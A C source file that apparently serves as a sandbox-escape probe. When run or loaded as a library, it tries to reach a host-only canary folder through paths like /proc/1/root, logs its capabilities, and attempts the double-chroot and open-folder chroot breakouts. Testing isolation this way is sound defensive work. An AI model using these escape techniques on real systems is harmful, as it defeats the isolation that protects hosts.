// A program or a library of a stranger: wherever it runs, it looks for the host and leaves a proof there.
// Built with -DCANARY="FOLDER", a folder that the host alone has; as a library with -shared -fPIC.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void proof(const char *before, const char *how) {
  char path[4096];
  snprintf(path, sizeof path, "%s" CANARY "/proof", before);
  int fd = open(path, O_CREAT | O_WRONLY | O_APPEND, 0666);
  if (fd >= 0) {
    dprintf(fd, "%s\n", how);
    close(fd);
  }
}

static void tell(void) {
  // what rights it had, for whoever reads the tree afterwards
  char line[256];
  FILE *status = fopen("/proc/self/status", "r");
  FILE *log = fopen("/hostile.log", "a");
  while (status && log && fgets(line, sizeof line, status)) {
    if (!strncmp(line, "CapEff", 6) || !strncmp(line, "Seccomp:", 8) || !strncmp(line, "NoNewPrivs", 10)) fputs(line, log);
  }
  if (log) fclose(log);
  if (status) fclose(status);
}

__attribute__((constructor)) static void start(void) {
  const char *places[] = { "", "/dev/host", "/oldroot", "/host", "/proc/1/root", "/proc/self/cwd/../../../../..", "/.old" };
  for (int i = 0; i < 7; i++) proof(places[i], places[i]);
  tell();
#ifndef LIBRARY
  mkdir("/x", 0700);
  int root = open("/", O_RDONLY);
  if (chroot("/x") == 0) {
    for (int i = 0; i < 64; i++) if (chdir("..")) break;
    chroot(".");
    proof("", "a second chroot");
    fchdir(root);
    for (int i = 0; i < 64; i++) if (chdir("..")) break;
    chroot(".");
    proof("", "a folder left open");
  }
#endif
}

#ifndef LIBRARY
int main(void) { return 0; }
#endif
